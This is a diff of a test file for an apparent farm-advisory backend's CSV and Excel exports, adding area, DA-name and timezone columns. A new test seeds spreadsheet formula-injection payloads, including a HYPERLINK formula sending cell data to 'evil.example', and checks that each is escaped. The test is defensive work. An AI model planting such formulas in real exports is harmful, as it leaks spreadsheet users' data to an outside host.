@@ -1,5 +1,7 @@
 import { request } from 'node:http';
 import { PGlite } from '@electric-sql/pglite';
+import { parse } from 'csv-parse/sync';
+import readXlsxFile from 'read-excel-file/node';
 import { afterAll, beforeAll, expect, it } from 'vitest';
 import { pgliteDb } from '../../src/backend/db/pglite';
 import type { Db } from '../../src/backend/db/types';
@@ -13,9 +15,14 @@ import type { Da } from './test-kit/fixtures';
 const PAGE = 3;
 const PAGE_SQL = 'order by t.id limit';
 const LEVELS = ['region', 'zone', 'woreda', 'kebele'] as const;
-const AREA_HEADER = LEVELS.flatMap((l) => [`${l}_id`, `${l}_name`]);
+const AREA_HEADER = LEVELS.flatMap((l) => [`${l}_id`, `${l}_name`, `${l}_name_am`]);
+const CREATOR = 'left join da_profiles c on c.id = t.created_by';
+const daName = (a: string) => `concat_ws(' ', ${a}.first_name, ${a}.father_name, ${a}.grand_father_name)`;
 
-/** What each export must hold: its documented header, and its rows read here with plain SQL. */
+/**
+ * What each export must hold: its documented header, and its rows read here with plain SQL (the
+ * area spliced in at `before`; `at` and `updated_at` become the Addis time and the ISO UTC one).
+ */
 const TABLES = {
   farmers: {
     header: [
@@ -29,16 +36,28 @@ const TABLES = {
       'development_group_name',
       ...AREA_HEADER,
       'created_by_da_id',
+      'created_by_da_name',
       'created_at',
+      'created_at_utc',
     ],
-    sql: `select f.id, f.farmer_name, f.father_name, f.grand_father_name, f.phone_number, f.gender,
-            f.development_group_id, g.group_name, f.kebele_id as area, f.created_by, f.created_at as at
-          from farmers f join development_groups g on g.id = f.development_group_id`,
+    sql: `select t.id, t.farmer_name, t.father_name, t.grand_father_name, '0' || t.phone_number as phone, t.gender,
+            t.development_group_id, g.group_name, t.kebele_id as area, t.created_by, ${daName('c')} as da, t.created_at as at
+          from farmers t join development_groups g on g.id = t.development_group_id ${CREATOR}`,
     before: 8,
   },
   groups: {
-    header: ['id', 'group_name', 'group_type', ...AREA_HEADER, 'created_by_da_id', 'created_at'],
-    sql: 'select id, group_name, group_type, kebele_id as area, created_by, created_at as at from development_groups',
+    header: [
+      'id',
+      'group_name',
+      'group_type',
+      ...AREA_HEADER,
+      'created_by_da_id',
+      'created_by_da_name',
+      'created_at',
+      'created_at_utc',
+    ],
+    sql: `select t.id, t.group_name, t.group_type, t.kebele_id as area, t.created_by, ${daName('c')} as da,
+            t.created_at as at from development_groups t ${CREATOR}`,
     before: 3,
   },
   reach: {
@@ -52,11 +71,13 @@ const TABLES = {
       'advisory_label',
       ...AREA_HEADER,
       'created_by_da_id',
+      'created_by_da_name',
       'created_at',
+      'created_at_utc',
     ],
     sql: `select t.id, t.farmer_id, f.farmer_name, f.father_name, t.advisory_id, a.code, a.label,
-            f.kebele_id as area, t.created_by, t.created_at as at
-          from reach_records t join farmers f on f.id = t.farmer_id join advisories a on a.id = t.advisory_id`,
+            f.kebele_id as area, t.created_by, ${daName('c')} as da, t.created_at as at
+          from reach_records t join farmers f on f.id = t.farmer_id join advisories a on a.id = t.advisory_id ${CREATOR}`,
     before: 7,
   },
   adoption: {
@@ -71,11 +92,13 @@ const TABLES = {
       'adoption_type',
       ...AREA_HEADER,
       'created_by_da_id',
+      'created_by_da_name',
       'created_at',
+      'created_at_utc',
     ],
     sql: `select t.id, t.farmer_id, f.farmer_name, f.father_name, t.advisory_id, a.code, a.label, t.adoption_type,
-            f.kebele_id as area, t.created_by, t.created_at as at
-          from adoption_records t join farmers f on f.id = t.farmer_id join advisories a on a.id = t.advisory_id`,
+            f.kebele_id as area, t.created_by, ${daName('c')} as da, t.created_at as at
+          from adoption_records t join farmers f on f.id = t.farmer_id join advisories a on a.id = t.advisory_id ${CREATOR}`,
     before: 8,
   },
   feedback: {
@@ -83,6 +106,7 @@ const TABLES = {
       'id',
       'bot_user_id',
       'da_id',
+      'da_name',
       'question_id',
       'question',
       'question_type',
@@ -90,23 +114,31 @@ const TABLES = {
       'response',
       ...AREA_HEADER,
       'created_at',
+      'created_at_utc',
       'updated_at',
+      'updated_at_utc',
     ],
-    sql: `select t.id, t.bot_user_id, b.da_profile_id, t.question_id, q.question, q.type, q.advisory_id,
-            t.response::text as response, d.kebele_id as area, t.created_at as at, t.updated_at
+    sql: `select t.id, t.bot_user_id, b.da_profile_id, ${daName('d')} as da, t.question_id, q.question, q.type,
+            q.advisory_id, t.response::text as response, d.kebele_id as area, t.created_at as at, t.updated_at
           from feedback t join feedback_questions q on q.id = t.question_id join bot_users b on b.id = t.bot_user_id
           left join da_profiles d on d.id = b.da_profile_id`,
-    before: 8,
+    before: 9,
   },
 } as const;
 type Table = keyof typeof TABLES;
 
-type Place = Record<(typeof LEVELS)[number], { id: number; name: string }>;
+type Place = Record<(typeof LEVELS)[number], { id: number; name: string; am: string }>;
 type Filter = { level?: (typeof LEVELS)[number]; id?: number; from?: string; to?: string };
 
 const iso = (v: unknown) => new Date(v as string).toISOString().replace(/Z$/, '000Z');
-const cell = (v: unknown) =>
-  v === null || v === undefined ? '' : v instanceof Date ? iso(v) : String(v as string | number);
+/** Addis Ababa's wall clock (UTC+3 all year), as Excel reads a date. */
+const addis = (v: unknown) =>
+  new Date(new Date(v as string).getTime() + 3 * 3_600_000).toISOString().slice(0, 19).replace('T', ' ');
+/** A cell as a spreadsheet must read it: a text that would run as a formula starts with `'` (OWASP). */
+const cell = (v: unknown) => {
+  const text = v === null || v === undefined ? '' : String(v as string | number);
+  return typeof v === 'string' && /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
+};
 
 describeOnDatabases('operator exports and backup (%s)', (kind) => {
   let t: TestBackend;
@@ -191,8 +223,9 @@ describeOnDatabases('operator exports and backup (%s)', (kind) => {
     const kebeles = [...new Set(rows.map((r) => r.area).filter((k) => k !== null))];
     const places = new Map<number, Place>();
     const found = await t.db.query<Record<string, unknown>>(
-      `select k.id as kebele_id, k.name as kebele_name, w.id as woreda_id, w.name as woreda_name,
-              z.id as zone_id, z.name as zone_name, r.id as region_id, r.name as region_name
+      `select k.id as kebele_id, k.name as kebele_name, k.name_am as kebele_am, w.id as woreda_id,
+              w.name as woreda_name, w.name_am as woreda_am, z.id as zone_id, z.name as zone_name,
+              z.name_am as zone_am, r.id as region_id, r.name as region_name, r.name_am as region_am
        from kebeles k join woredas w on w.id = k.woreda_id join zones z on z.id = w.zone_id
        join regions r on r.id = z.region_id where k.id = any($1::bigint[])`,
       [kebeles],
@@ -201,10 +234,14 @@ describeOnDatabases('operator exports and backup (%s)', (kind) => {
       places.set(
         Number(p.kebele_id),
         Object.fromEntries(
-          LEVELS.map((l) => [l, { id: Number(p[`${l}_id`]), name: String(p[`${l}_name`]) }]),
+          LEVELS.map((l) => [
+            l,
+            { id: Number(p[`${l}_id`]), name: String(p[`${l}_name`]), am: cell(p[`${l}_am`]) },
+          ]),
         ) as Place,
       );
-    const day = (v: unknown) => new Date(v as string).toISOString().slice(0, 10);
+    // Days of Addis Ababa's calendar, as the filters take them.
+    const day = (v: unknown) => addis(v).slice(0, 10);
     return rows
       .filter((r) => {
         const place = r.area === null ? undefined : places.get(Number(r.area));
@@ -215,9 +252,13 @@ describeOnDatabases('operator exports and backup (%s)', (kind) => {
       })
       .map((r) => {
         const place = r.area === null ? undefined : places.get(Number(r.area));
-        const area = LEVELS.flatMap((l) => (place ? [String(place[l].id), place[l].name] : ['', '']));
+        const area = LEVELS.flatMap((l) =>
+          place ? [String(place[l].id), place[l].name, place[l].am] : ['', '', ''],
+        );
         const values = Object.entries(r).filter(([k]) => k !== 'area');
-        const cells = values.map(([k, v]) => (k === 'at' || k === 'updated_at' ? iso(v) : cell(v)));
+        const cells = values.flatMap(([k, v]) =>
+          k === 'at' || k === 'updated_at' ? [addis(v), iso(v)] : [cell(v)],
+        );
         const at = TABLES[table].before;
         return [...cells.slice(0, at), ...area, ...cells.slice(at)];
       });
@@ -275,14 +316,124 @@ describeOnDatabases('operator exports and backup (%s)', (kind) => {
     expect(feedback).toContain('"[""ጥሩ ነው"", ""b,c""]"');
     const answers = parseCsv(feedback)
       .slice(1)
-      .map((r) => r[7]);
+      .map((r) => r[8]);
     expect(answers).toContain('"line one\\nline \\"two\\""');
     expect(answers.map((a) => JSON.parse(a ?? 'null'))).toContainEqual({ rating: 4 });
     // A DA's answer carries their area; a user who is no DA has none.
     const rows = parseCsv(feedback).slice(1);
     const mine = rows.find((r) => r[1] === String(das[0]?.botUserId));
     expect(mine?.[2]).toBe(String(das[0]?.daId));
-    expect(mine?.[14]).toBe(String(t.fx.area.kebele));
+    expect(mine?.[18]).toBe(String(t.fx.area.kebele));
+  });
+
+  it('no cell a spreadsheet opens starts a formula; phones are 09…; every record names its DA', async () => {
+    const da = das[0] as Da;
+    const group = await t.fx.group(da, '@SUM(A1:A9)');
+    const farmer = await t.fx.farmer(da, group, '=HYPERLINK("http://evil.example/?"&E2,"Click")');
+    await t.db.query(`update farmers set father_name = '-2+3', grand_father_name = '+cmd' where id = $1`, [
+      farmer,
+    ]);
+    try {
+      const body = (await exportOf('farmers', { kebele: t.fx.area.kebele })).raw.body;
+      // A real reader's view of the file.
+      const records: Record<string, string>[] = parse(body, { bom: true, columns: true });
+      const row = records.find((r) => r.id === String(farmer));
+      expect(row).toMatchObject({
+        farmer_name: `'=HYPERLINK("http://evil.example/?"&E2,"Click")`,
+        father_name: "'-2+3",
+        grand_father_name: "'+cmd",
+        development_group_name: "'@SUM(A1:A9)",
+        created_by_da_id: String(da.daId),
+        created_by_da_name: expect.stringMatching(/\S+ \S+ \S+/),
+      });
+      for (const r of records) {
+        expect(r.phone_number).toMatch(/^0[79]\d{8}$/);
+        expect(r.created_at).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
+        expect(r.created_at_utc).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{6}Z$/);
+        for (const value of Object.values(r)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
+      }
+      for (const table of ['groups', 'reach', 'adoption', 'feedback'] as const) {
+        const rows: Record<string, string>[] = parse((await exportOf(table)).raw.body, {
+          bom: true,
+          columns: true,
+        });
+        const names = rows.map((r) => (table === 'feedback' ? r.da_name : r.created_by_da_name));
+        expect(
+          names.filter((n) => n !== ''),
+          table,
+        ).not.toHaveLength(0);
+        for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
+      }
+    } finally {
+      await t.db.query('delete from farmers where id = $1', [farmer]);
+      await t.db.query('delete from development_groups where id = $1', [group]);
+    }
+  });
+
+  it('--from and --to are days in Addis Ababa: 22:30 UTC is the next day there', async () => {
+    const da = das[0] as Da;
+    const group = await t.fx.group(da, 'Late group');
+    await t.db.query(`update development_groups set created_at = '2026-03-01T22:30:00Z' where id = $1`, [
+      group,
+    ]);
+    try {
+      const ids = async (query: Record<string, string>) =>
+        (
+          parse((await exportOf('groups', query)).raw.body, { bom: true, columns: true }) as Record<
+            string,
+            string
+          >[]
+        )
+          .filter((r) => r.id === String(group))
+          .map((r) => [r.created_at, r.created_at_utc]);
+      expect(await ids({ from: '2026-03-02', to: '2026-03-02' })).toEqual([
+        ['2026-03-02 01:30:00', '2026-03-01T22:30:00.000000Z'],
+      ]);
+      expect(await ids({ to: '2026-03-01' })).toEqual([]);
+    } finally {
+      await t.db.query('delete from development_groups where id = $1', [group]);
+    }
+  });
+
+  it('.xlsx: one sheet, the same rows as the CSV, with numbers, dates and phones typed', async () => {
+    const kebele = t.fx.area.kebele;
+    const csv: string[][] = parse((await exportOf('farmers', { kebele })).raw.body, { bom: true });
+    const x = await t.call('GET', '/ops/export/farmers.xlsx', {
+      headers: proof.service(),
+      query: { kebele },
+    });
+    expect(x.status).toBe(200);
+    expect(x.raw.headers['content-type']).toBe(
+      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
+    );
+    expect(x.raw.headers['x-gebere-rows']).toBe(String(csv.length - 1));
+    const sheets = await readXlsxFile(x.raw.rawPayload);
+    expect(sheets.map((s) => s.sheet)).toEqual(['farmers']);
+    const [header, ...rows] = sheets[0]?.data ?? [];
+    expect(header).toEqual(csv[0]);
+    const col = (name: string) => (csv[0] as string[]).indexOf(name);
+    expect(rows).toHaveLength(csv.length - 1);
+    rows.forEach((row, i) => {
+      const text = csv[i + 1] as string[];
+      expect(typeof row[col('id')]).toBe('number');
+      expect(row[col('id')]).toBe(Number(text[col('id')]));
+      expect(row[col('kebele_id')]).toBe(kebele);
+      expect(row[col('phone_number')]).toBe(text[col('phone_number')]);
+      expect(row[col('phone_number')]).toMatch(/^0[79]\d{8}$/);
+      expect(row[col('kebele_name_am')] ?? null).toBe(text[col('kebele_name_am')] || null);
+      const at = row[col('created_at')];
+      expect(at).toBeInstanceOf(Date);
+      // The wall-clock time a clerk sees, as a date cell (to the second, as Excel rounds a serial day).
+      const shown = new Date(Math.round((at as unknown as Date).getTime() / 1000) * 1000);
+      expect(shown.toISOString().slice(0, 19).replace('T', ' ')).toBe(text[col('created_at')]);
+      expect(row[col('created_at_utc')]).toBe(text[col('created_at_utc')]);
+      expect(row[col('farmer_name')]).toBe(text[col('farmer_name')]);
+    });
+    const bad = await t.call('GET', '/ops/export/farmers.xlsx', {
+      headers: proof.service(),
+      query: { from: 'x' },
+    });
+    expect(bad.status).toBe(400);
   });
 
   it('only the service token may export, back up or count: 401 without proof, 403 for users', async () => {
